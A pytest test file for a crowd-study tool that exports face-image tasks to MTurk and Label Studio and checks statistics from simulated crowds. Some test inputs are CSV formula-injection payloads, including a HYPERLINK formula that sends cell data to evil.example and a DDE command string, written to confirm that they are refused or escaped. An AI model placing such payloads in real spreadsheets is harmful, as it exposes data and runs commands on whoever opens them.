"""``studio study``: a crowd validation study built from real faces, answered by a simulated
crowd of known accuracy in MTurk's and Label Studio's own result formats, and analysed by
``studio crowd-report``, which must recover what the crowd was made to do."""

from __future__ import annotations

import csv
import json
import re
import shutil
import stat
import subprocess
import sys
from collections import Counter
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from studio.cli import main
from studio.core.crowd.design import (
    BIN_WIDTH,
    StratifiedPicker,
    evidence_bin,
    evidence_of,
    plan_assignment,
)
from studio.core.crowd.formats import VERSIONS, item_from_url, read_mapping, read_truth
from studio.core.crowd.simulate import MTURK_RESULT_COLUMNS, SimulatedCrowd, fill_truth, read_plan
from studio.core.crowd.statistics import load_and_analyze
from studio.core.crowd.tables import FORMULA_PREFIXES, csv_writer, safe_cell
from studio.core.surrogates.making import EXPORT_SIZE
from studio.core.surrogates.registry import REGISTRY
from studio.core.workspace.batch import batch_photos
from studio.core.workspace.export import (
    FORMATS,
    MAPPING_FIELDS,
    MTURK_LAYOUT,
    layout_variables,
    mturk_layout,
    write_batch,
)
from studio.core.workspace.study import check_study, originals_in, study_versions

ROOT = Path(__file__).resolve().parents[2]
#: The simulated crowd: per-version accuracy (the issue's example), workers of varying skill.
KNOWN = {"original": 0.85, "gan": 0.75, "3d": 0.78, "context": 0.82}
#: What a study with its originals shown holds: every version at the default preset.
SHOWN = study_versions(True)


def studio(*args: str, timeout: int = 600) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "studio", *args], capture_output=True,
                          text=True, timeout=timeout, cwd=ROOT)


# --- the design, on its own --------------------------------------------------------------


def test_versions_are_the_original_and_every_surrogate_method():
    assert ("original", *REGISTRY.candidates()) == VERSIONS


def test_a_study_shows_each_method_at_the_default_preset_only():
    assert "context-strict" in VERSIONS  # an export of strict candidates is reported
    assert SHOWN == ("original", "gan", "3d", "context") == tuple(KNOWN)
    assert study_versions(False) == SHOWN[1:]


def test_stratified_picker_takes_equal_numbers_from_each_bin():
    rng = np.random.default_rng(3)
    # Bins of very different sizes: 40 clear smiles, 3 near the boundary, 25 neutrals.
    evidence = [*rng.uniform(4.0, 4.5, 40), *rng.uniform(0.0, 0.5, 3),
                *rng.uniform(-3.0, -2.5, 25)]
    picker = StratifiedPicker(evidence, np.random.default_rng(0))
    taken = []
    while len(taken) < 12:
        i = picker.next()
        if i in (0, 1, 2, 3):  # these cannot be used (say, no surrogate passed the gate)
            continue
        picker.accept(i)
        taken.append(i)
    counts = Counter(evidence_bin(evidence[i]) for i in taken)
    # The boundary bin has only 3: it gives all of them, the other two share the rest.
    assert counts == {0.0: 3, 4.0: 4 + 1, -3.0: 4} or counts == {0.0: 3, 4.0: 4, -3.0: 5}
    assert len(set(taken)) == 12 and not set(taken) & {0, 1, 2, 3}
    assert evidence_bin(0.49) == 0.0 and evidence_bin(-0.01) == -BIN_WIDTH
    assert evidence_of(0.5) == 0.0 and evidence_of(1.0) == pytest.approx(6.9068, abs=1e-3)


def test_full_design_when_a_worker_can_see_everything():
    plan = plan_assignment(48, 10, np.random.default_rng(1))
    assert plan.design == "full" and plan.per_item == 10
    assert all(sorted(seq) == list(range(48)) for seq in plan.sequences)
    assert len({tuple(seq) for seq in plan.sequences}) == 10  # an order of each worker's own


def test_balanced_design_when_the_study_is_too_large():
    n, workers = 1000, 60
    plan = plan_assignment(n, workers, np.random.default_rng(2), max_per_worker=240)
    assert plan.design == "balanced" and plan.per_item == 14  # 60 * 240 // 1000
    seen = Counter(i for seq in plan.sequences for i in seq)
    assert set(seen.values()) == {14} and len(seen) == n  # every item by k workers
    assert all(len(set(seq)) == len(seq) for seq in plan.sequences)  # never twice
    assert max(plan.loads) - min(plan.loads) <= 1 and max(plan.loads) <= 240
    with pytest.raises(ValueError, match="need at least 5 workers"):
        plan_assignment(1000, 4, np.random.default_rng(0), max_per_worker=240)
    with pytest.raises(ValueError, match="over the limit"):
        plan_assignment(1000, 60, np.random.default_rng(0), per_item=20, max_per_worker=240)


def test_layout_variables_are_exactly_the_csv_columns():
    from studio.core.workspace.export import MTURK_COLUMNS

    html = mturk_layout()
    assert layout_variables(html) == set(MTURK_COLUMNS) == {"image_url"}
    assert layout_variables("<img src='${image_url}'> ${ item }") == {"image_url", " item "}
    # The answer comes back as Answer.smile.label: the classifier is named smile, flattened.
    assert re.search(r'<crowd-form answer-format="flatten-objects">', html)
    assert re.search(r'<crowd-image-classifier name="smile" src="\$\{image_url\}"', html)


def test_item_ids_from_label_studio_local_files_urls():
    assert item_from_url("/data/local-files/?d=studies/s1/images/0a1b2c3d4e5f.png") == \
        "0a1b2c3d4e5f"
    assert item_from_url("/data/local-files/?d=my%20data/images/abc123.png") == "abc123"
    assert item_from_url("/data/local-files/?x=1") is None


def test_bad_study_options_are_one_line_errors_before_any_model(tmp_path):
    (tmp_path / "exists").mkdir()
    cases = [
        (["photos", str(tmp_path / "exists"), "--base-url", "https://x.org/"], "already exists"),
        (["photos", str(tmp_path / "new"), "--format", "labelstudio"], "--local-files-root"),
        ([str(tmp_path / "nowhere"), str(tmp_path / "new"), "--base-url", "https://x/"],
         "there is no folder"),
        (["photos", str(tmp_path / "new"), "--base-url", "https://x/", "--local-files-root",
          str(tmp_path / "elsewhere")], "not inside the Label Studio document root"),
    ]
    for args, message in cases:
        proc = studio("study", *args, timeout=120)
        assert proc.returncode == 2 and message in proc.stderr, (args, proc.stderr)
        assert "Traceback" not in proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["exists"]


STUDY_REFUSALS = [  # options -> what the one-line error says (before photos or models)
    (["--base-url", '=HYPERLINK("https://evil.example/?"&A1)/'], "not an http"),
    (["--base-url", "+cmd|' /C calc'!A0/"], "not an http"),
    (["--base-url", "@SUM(1+1)/"], "not an http"),
    (["--base-url", "file:///srv/s1/"], "not an http"),
    (["--base-url", "https://x.org/", "--max-per-worker", "0"], "--max-per-worker must be"),
    (["--base-url", "https://x.org/", "--per-item", "0"], "--per-item must be"),
    (["--base-url", "https://x.org/", "--originals", "100", "--workers", "3",
      "--max-per-worker", "10"], "need at least 30 workers"),
    (["--format", "labelstudio", "--local-files-root", "{out}"], "document root itself"),
    (["--format", "xml", "--base-url", "https://x.org/"], "unknown format 'xml'"),
]


def test_study_options_are_checked_before_the_photos_and_models(tmp_path, capsys):
    out = tmp_path / "new"
    for extra, needle in STUDY_REFUSALS:
        code = main(["study", str(tmp_path / "nowhere"), str(out),
                     *(a.format(out=out) for a in extra)])
        err = capsys.readouterr().err
        assert code == 2 and needle in err and err.count("\n") == 1, (extra, err)
    # --format both is what --help offers: it passes the options (and fails on the folder).
    for extra in (["--format", "both", "--base-url", "https://x.org/"],
                  ["--format", "labelstudio", "--local-files-root", str(tmp_path)]):
        assert main(["study", str(tmp_path / "nowhere"), str(out), *extra]) == 2
        assert "there is no folder" in capsys.readouterr().err
    assert check_study(out, 2, 1, ("both",), "https://x.org/")[0] == out
    assert list(tmp_path.iterdir()) == []


def _batch(folder: Path, rows: list[dict], base_url: str = "https://example.org/b/") -> Path:
    """A crowd batch written by the studio's own writer, of tiny pictures."""
    from studio.core.surrogates.making import png_bytes

    png = png_bytes(np.zeros((8, 8, 3), np.uint8))
    full = [({**dict.fromkeys(MAPPING_FIELDS, ""), "original_key": "k:0", "version": "gan",
              "kind": "item", "joy": 0.5, **row}, png) for row in rows]
    mapping = folder.with_name(folder.name + ".private-mapping.csv")
    write_batch(full, folder, mapping, FORMATS, base_url)
    return mapping


def test_cells_a_spreadsheet_would_run_are_escaped_in_what_the_studio_writes(tmp_path):
    hostile = ['=HYPERLINK("https://evil.example")', "+1+cmd", "-2+3", "@SUM(A1)",
               "\tx", "\r=1"]
    mapping = _batch(tmp_path / "b1", [{"item_id": f"i{n}", "original_path": text,
                                        "candidate_id": text, "joy": -0.25 if n else 0.5}
                                       for n, text in enumerate(hostile)])
    with mapping.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["original_path"] for r in rows] == [f"'{t}" for t in hostile]
    assert not any(c.startswith(FORMULA_PREFIXES) for r in rows for k, c in r.items()
                   if k != "joy")
    assert {r["joy"] for r in rows} == {"0.5", "-0.25"}  # a number is never a formula
    with (tmp_path / "b1" / "mturk.csv").open(newline="") as fh:
        assert all(u.startswith("https://") for (u,) in list(csv.reader(fh))[1:])
    assert safe_cell(-1) == -1 and safe_cell("-1e3") == "-1e3" and safe_cell("a=b") == "a=b"
    import io

    text = io.StringIO()
    csv_writer(text).writerow(["=1+2", "plain", 3])
    assert text.getvalue() == "'=1+2,plain,3\r\n"


def test_a_study_kept_in_the_photo_folder_is_not_read_as_originals(tmp_path, capsys):
    photos = tmp_path / "photos"
    photos.mkdir()
    _batch(photos / "s1", [{"item_id": "a1"}, {"item_id": "a2"}])
    (photos / ".s2.partial-0a1b2c" / "images").mkdir(parents=True)  # one left half-written
    (photos / ".s2.partial-0a1b2c" / "images" / "a3.png").write_bytes(b"png")
    listing = batch_photos(photos).images
    assert len(listing) == 3 and originals_in(listing) == ([], 3)
    code = main(["study", str(photos), str(tmp_path / "s3"), "--base-url", "https://x.org/"])
    err = capsys.readouterr().err
    assert code == 2 and "no photos besides the 3 pictures of crowd batches" in err, err
    (photos / "me.jpg").write_bytes(b"a photo")  # a photo beside them is taken
    (photos / "images").mkdir()
    (photos / "images" / "you.png").write_bytes(b"a photo in a folder named images")
    assert originals_in(batch_photos(photos).images) == (
        [photos / "images" / "you.png", photos / "me.jpg"], 3)
    assert not (tmp_path / "s3").exists()


# --- a study of real faces, end to end -------------------------------------------------------


def _photos(genki_test, folder: Path, n: int) -> dict[str, int]:
    """n GENKI-4K test faces copied into ``folder``, spread over the split (its files come
    smiles first, then non-smiles); file stem -> smile label."""
    folder.mkdir(parents=True)
    items = genki_test[::len(genki_test) // n][:n]
    for item in items:
        shutil.copy(item.path, folder / item.path.name)
    return {item.stem: item.smile for item in items}


@pytest.fixture(scope="module")
def shown_study(tmp_path_factory, genki_test, engine):
    from studio.core.workspace.study import build_study

    base = tmp_path_factory.mktemp("study")
    labels = _photos(genki_test, base / "photos", 48)
    report = build_study(sorted((base / "photos").iterdir()), base / "lab" / "s1", engine,
                         m=12, workers=40, base_url="https://example.org/s1/",
                         local_root=base / "lab", originals_may_be_shown=True,
                         expressions=True, seed=7)
    return base, labels, report


@pytest.mark.data
@pytest.mark.slow
def test_the_study_folder_holds_only_what_workers_may_see(shown_study):
    base, _labels, r = shown_study
    out = r.out_dir
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["images", "mturk.csv", MTURK_LAYOUT, "labelstudio_tasks.json",
         "labelstudio_config.xml", "plan.csv"])
    for private in (r.mapping, r.truth):
        assert private.parent == out.parent and stat.S_IMODE(private.stat().st_mode) == 0o600
    mapping, problems = read_mapping(r.mapping)
    assert not problems and len(mapping) == r.items == 12 * 4
    assert Counter(row.version for row in mapping.values()) == dict.fromkeys(SHOWN, 12)
    originals = {row.original_key for row in mapping.values()}
    assert len(originals) == 12
    # Stratified: equal numbers (+-1) from each 0.5-wide bin of joy evidence that had
    # photos to spare, and never more than a bin had.
    assert sum(r.bins.values()) == 12 and max(r.bins.values()) - min(r.bins.values()) <= 1
    for row in mapping.values():
        assert evidence_bin(evidence_of(row.joy)) in r.bins and row.item_joy is not None
    names = {p.stem for p in (base / "photos").iterdir()}
    for png in (out / "images").iterdir():
        assert png.stem in mapping and not any(n in png.name for n in names)
        with Image.open(png) as im:
            assert im.size == (EXPORT_SIZE, EXPORT_SIZE) and not im.info.get("exif")
    # mturk.csv's header is exactly the layout's variables; one HIT per item.
    with (out / "mturk.csv").open(newline="") as fh:
        rows = list(csv.reader(fh))
    layout = (out / MTURK_LAYOUT).read_text()
    assert set(rows[0]) == layout_variables(layout) == {"image_url"}
    assert {item_from_url(u) for (u,) in rows[1:]} == set(mapping)
    assert all(u.startswith("https://example.org/s1/images/") for (u,) in rows[1:])
    # Label Studio: the local-files form, relative to its document root, with the item id.
    tasks = json.loads((out / "labelstudio_tasks.json").read_text())
    for t in tasks:
        image = t["data"]["image"]
        assert image == f"/data/local-files/?d=s1/images/{t['data']['item_id']}.png"
        assert (base / "lab" / image.split("?d=")[1]).is_file()
    assert 'name="expression"' in (out / "labelstudio_config.xml").read_text()
    # Every worker sees every item, each in an order of their own.
    plan = read_plan(out)
    assert r.design == "full" and len(plan) == 40
    assert all(sorted(seq) == sorted(mapping) for seq in plan)
    assert len({tuple(seq) for seq in plan}) == 40
    # The truth sheet lists the originals for the researcher to label.
    truth, problems = read_truth(r.truth)
    assert truth == {} and len(problems) == 12  # labels still empty


@pytest.mark.data
@pytest.mark.slow
def test_a_crowd_of_known_accuracy_is_recovered_from_mturk_results(shown_study):
    base, labels, r = shown_study
    mapping, _ = read_mapping(r.mapping)
    truth_file = fill_truth(r.truth, labels, r.truth.with_name("truth-filled.csv"))
    truth, _ = read_truth(truth_file)
    crowd = SimulatedCrowd(KNOWN, seed=11)
    answers = crowd.answer(r.out_dir, mapping, truth)
    results = crowd.mturk_results(r.out_dir, base / "Batch_1_batch_results.csv")
    header = next(csv.reader(results.open()))
    assert header[:len(MTURK_RESULT_COLUMNS)] == list(MTURK_RESULT_COLUMNS)
    assert header[-4:] == ["Input.image_url", "Answer.smile.label", "Approve", "Reject"]
    out = base / "report"
    proc = studio("crowd-report", str(results), str(out), "--truth", str(truth_file),
                  "--mapping", str(r.mapping))
    assert proc.returncode == 0, proc.stderr
    summary = json.loads((out / "summary.json").read_text())
    assert summary["n_answers"] == len(answers) == 40 * 48 and summary["n_problems"] == 0
    versions = {v["version"]: v for v in summary["versions"]}
    assert list(versions) == list(SHOWN)
    for version, p in KNOWN.items():
        v = versions[version]
        made = np.mean([right for _, item, _, right in answers
                        if mapping[item].version == version])
        assert v["accuracy"] == pytest.approx(made)  # what the crowd did, counted exactly
        assert abs(v["accuracy"] - p) < 0.05, (version, v)  # near what it was made to do
    tests = {(t["a"], t["b"]): t for t in summary["tests"]}
    assert tests[("original", "gan")]["t"] > 0 and tests[("original", "gan")]["p"] < 0.05
    assert tests[("original", "3d")]["t"] > 0 and tests[("gan", "context")]["t"] < 0
    # crowd-kit's aggregates: 40 workers at >= 0.75 leave no image wrong by majority.
    # Dawid-Skene assumes a worker errs alike on every item; versions harder for everyone
    # break that, and it may call a hard smile "no smile": it is reported beside, not over.
    for g in summary["aggregates"]:
        assert g["majority"] == 1.0 and g["dawid_skene"] >= 0.75, g
    ds = [w["ds_accuracy"] for w in summary["workers"]]
    real = [w["item_accuracy"] for w in summary["workers"]]
    assert np.corrcoef(ds, real)[0, 1] > 0.4  # it still sees, roughly, who is better
    # The machine baseline: the studio's own decision on the originals against GENKI-4K.
    machine = {m["what"]: m for m in summary["machine"]}
    expected = np.mean([(row.joy >= 0.5) == truth[row.original_key]
                        for row in mapping.values() if row.version == "original"])
    assert machine["original photo"]["accuracy"] == pytest.approx(expected)
    assert set(machine) == {"original photo", *SHOWN[1:]}
    page = (out / "index.html").read_text()
    assert "the studio, on the original photo" in page and "Dawid–Skene" in page
    assert "No original row" not in page


@pytest.mark.data
@pytest.mark.slow
def test_the_intervals_hold_the_known_accuracies_across_crowds(shown_study):
    """A 95% interval misses now and then: over ten independent crowds on the same study,
    the per-version intervals must hold the accuracy the crowd was made with about 95% of
    the time (at least 34 of 40; fewer happens by chance with probability 0.3%), and the
    original must come out ahead of the GAN surrogate every time."""
    base, labels, r = shown_study
    mapping, _ = read_mapping(r.mapping)
    truth_file = fill_truth(r.truth, labels, r.truth.with_name("truth-filled.csv"))
    truth, _ = read_truth(truth_file)
    held, ahead = 0, 0
    for seed in range(100, 110):
        crowd = SimulatedCrowd(KNOWN, seed=seed)
        crowd.answer(r.out_dir, mapping, truth)
        a = load_and_analyze(crowd.mturk_results(r.out_dir, base / f"b{seed}.csv"),
                             r.mapping, truth_file, draws=1)
        assert not a.problems and a.n_answers == 40 * 48
        held += sum(v.ci_low < KNOWN[v.version] < v.ci_high for v in a.versions)
        test = next(t for t in a.tests if (t.a, t.b) == ("original", "gan"))
        ahead += test.t > 0 and test.p < 0.05
    assert held >= 34 and ahead == 10, (held, ahead)


@pytest.mark.data
@pytest.mark.slow
def test_seven_class_answers_from_label_studio_are_reported(shown_study):
    base, labels, r = shown_study
    mapping, _ = read_mapping(r.mapping)
    truth_file = fill_truth(r.truth, labels, r.truth.with_name("truth-filled.csv"))
    truth, _ = read_truth(truth_file)
    crowd = SimulatedCrowd(KNOWN, seed=5)
    crowd.answer(r.out_dir, mapping, truth)
    export = crowd.label_studio_export(r.out_dir, base / "ls-export.json", expressions=True)
    a = load_and_analyze(export, r.mapping, truth_file)
    assert a.format == "label-studio" and not a.problems and a.n_answers == 40 * 48
    tables = {x.version: x for x in a.expressions}
    assert list(tables) == list(SHOWN)
    for version, x in tables.items():
        said_smile = np.mean([s for _, item, s, _ in crowd.answers
                              if mapping[item].version == version])
        assert x.shares["Happiness"] == pytest.approx(said_smile)
        assert sum(x.shares.values()) == pytest.approx(1.0)
    assert all(x.n_compared == 12 and x.agree_with_original > 0.8 for x in
               list(tables.values())[1:])


@pytest.mark.data
@pytest.mark.slow
def test_the_command_never_shows_originals_unless_told(tmp_path, genki_test):
    labels = _photos(genki_test, tmp_path / "photos", 14)
    out = tmp_path / "s2"
    proc = studio("study", str(tmp_path / "photos"), str(out), "--originals", "4",
                  "--workers", "6", "--base-url", "https://example.org/s2/", "--format",
                  "mturk", "--seed", "3", "--quiet")
    assert proc.returncode == 0, proc.stderr
    assert "the originals are not shown" in proc.stdout
    mapping, problems = read_mapping(tmp_path / "s2.private-mapping.csv")
    assert not problems and len(mapping) == 12
    assert {row.version for row in mapping.values()} == set(study_versions(False))
    assert not (out / "labelstudio_tasks.json").exists()
    sheet = tmp_path / "s2.private-truth.csv"
    truth_file = fill_truth(sheet, labels, sheet.with_name("truth-filled.csv"))
    truth, _ = read_truth(truth_file)
    crowd = SimulatedCrowd(KNOWN, seed=2)
    crowd.answer(out, mapping, truth)
    results = crowd.mturk_results(out, tmp_path / "results.csv")
    proc = studio("crowd-report", str(results), str(tmp_path / "report"), "--truth",
                  str(truth_file), "--mapping", str(tmp_path / "s2.private-mapping.csv"))
    assert proc.returncode == 0, proc.stderr
    assert "no original row" in proc.stdout
    summary = json.loads((tmp_path / "report" / "summary.json").read_text())
    assert not summary["originals_shown"]
    assert [v["version"] for v in summary["versions"]] == list(study_versions(False))
    assert "No original row" in (tmp_path / "report" / "index.html").read_text()
    assert sorted(p.name for p in (tmp_path / "photos").iterdir()) == sorted(
        f"{stem}.jpg" for stem in labels)  # the photos are only read
